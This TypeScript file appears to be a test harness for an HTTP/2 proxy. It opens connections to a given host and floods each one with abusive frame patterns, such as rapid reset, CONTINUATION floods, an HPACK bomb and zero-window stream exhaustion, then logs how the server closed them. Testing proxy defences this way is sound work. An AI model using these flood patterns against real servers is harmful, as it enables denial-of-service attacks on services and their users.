/**
 * A client that means ill, run inside a pod: makes HTTP/2 connections one after the other, on each of which it floods the server in one of
 * the ways below until the connection ends, and prints how each of them ended, as JSON. `code` is that of GOAWAY, -1 without one;
 * `end` how TCP ended; `resets` counts RST_STREAM by code.
 * Usage: node http2-flooder.js ADDRESS PORT FLOOD CONNECTIONS
 */
import { connect } from 'node:net';
import * as frames from '../../l7proxy/http2/frames.ts';
import {
  block,
  data,
  frame,
  headers,
  PREFACE,
  request,
  SETTINGS,
  SETTINGS_ACK,
  setting,
  word,
} from '../stream/http2-wire.ts';

const POST = request('/public/upload', [], 'POST');
const GET = request('/public/bytes/1');
/** Written at a time, each a turn of the flood. */
const BURST = 100;
const PATIENCE_MS = 60_000;

/** The next frames of a flood: `n` counts up from 0, over the whole connection. */
type Flood = (n: number) => string;
const stream = (n: number) => 2 * n + 1;
const reset = (id: number) => frame(frames.RST_STREAM, 0, id, word(8));

const FLOODS: Readonly<Record<string, { first?: string; settings?: string; next: Flood; most?: number }>> = {
  'rapid-reset': { next: (n) => headers(stream(n), GET) + reset(stream(n)) },
  // Streams that are wrong, so that whoever reads them gives them up.
  'made-reset-by-content': {
    next: (n) =>
      headers(stream(n), request('/public/upload', [['content-length', '1']], 'POST'), 0) + data(stream(n), 'xy'),
  },
  'made-reset-by-window': {
    next: (n) => headers(stream(n), POST, 0) + frame(frames.WINDOW_UPDATE, 0, stream(n), word(0x7fffffff)),
  },
  continuation: {
    first: frame(frames.HEADERS, 0, 1, block(GET)),
    next: () => frame(frames.CONTINUATION, 0, 1, block([['x', 'y']])),
  },
  settings: { next: () => frame(frames.SETTINGS, 0, 0, setting(4, 65_535)) },
  ping: { next: () => frame(frames.PING, 0, 0, 'floods!!') },
  'empty-data': { first: headers(1, POST, 0), next: () => data(1, '') },
  priority: { next: (n) => frame(frames.PRIORITY, 0, stream(n), `${word(0)}\x10`) },
  unknown: { next: () => frame(0x42, 0, 0, 'x'.repeat(100)) },
  'hpack-bomb': {
    first: headers(1, block(GET) + block([['x', 'y'.repeat(4000)]], 0x40)),
    next: (n) => headers(stream(n + 1), block(GET) + '\xbe'.repeat(100)),
  },
  'hpack-below-the-bomb': {
    first: headers(1, block(GET) + block([['x', 'y'.repeat(4000)]], 0x40)),
    next: (n) => headers(stream(n + 1), block(GET) + '\xbe'.repeat(60)),
  },
  'closed-streams': {
    first: headers(1, request('/secret')),
    next: (n) => data(1, 'x'.repeat(1 + (n % 100))),
    most: 20_000,
  },
  'many-streams': { next: (n) => headers(stream(n), POST, 0), most: 3000 },
  // Every other one is denied.
  'zero-windows': {
    settings: setting(4, 0),
    next: (n) => headers(stream(n), request(n % 2 === 0 ? '/public/a' : '/secret')),
    most: 200,
  },
};

interface End {
  code: number;
  end: string;
  resets: Record<string, number>;
}

const [, , address, port, name, connections] = process.argv;
const flood = FLOODS[name];

function once(): Promise<End> {
  return new Promise((resolve) => {
    const socket = connect({ host: address, port: Number(port), noDelay: true });
    const result: End = { code: -1, end: '', resets: {} };
    let rest = Buffer.alloc(0);
    const finish = (end: string) => {
      clearTimeout(patience);
      socket.destroy();
      resolve({ ...result, end: result.end || end });
    };
    const patience = setTimeout(() => finish('open'), PATIENCE_MS);
    socket.on('error', (error: NodeJS.ErrnoException) => (result.end = error.code ?? 'error'));
    socket.on('end', () => (result.end ||= 'fin'));
    socket.on('close', () => finish('closed'));
    socket.on('data', (part) => {
      rest = Buffer.concat([rest, part]);
      while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
        const length = rest.readUIntBE(0, 3);
        if (rest[3] === frames.GOAWAY) result.code = rest.readUInt32BE(13);
        if (rest[3] === frames.RST_STREAM) {
          const code = rest.readUInt32BE(9);
          result.resets[code] = (result.resets[code] ?? 0) + 1;
        }
        if (rest[3] === frames.SETTINGS && rest[4] === 0) begin();
        rest = rest.subarray(9 + length);
      }
    });
    const first = frame(frames.SETTINGS, 0, 0, flood.settings ?? '');
    socket.write(PREFACE + (flood.settings === undefined ? SETTINGS : first), 'latin1');
    let isBegun = false;
    const begin = () => {
      if (isBegun) return;
      isBegun = true;
      socket.write(SETTINGS_ACK + (flood.first ?? ''), 'latin1');
      burst(0);
    };
    const burst = (n: number) => {
      if (socket.destroyed) return;
      if (n >= (flood.most ?? Number.POSITIVE_INFINITY)) {
        // Held open: the answer to a PING says that all of it was read.
        setTimeout(() => finish('held'), 300);
        return;
      }
      const text = Array.from({ length: BURST }, (_, i) => flood.next(n + i)).join('');
      socket.write(text, 'latin1', () => setImmediate(burst, n + BURST));
    };
  });
}

const ends: End[] = [];
for (let i = 0; i < Number(connections); i++) ends.push(await once());
process.stdout.write(JSON.stringify(ends));
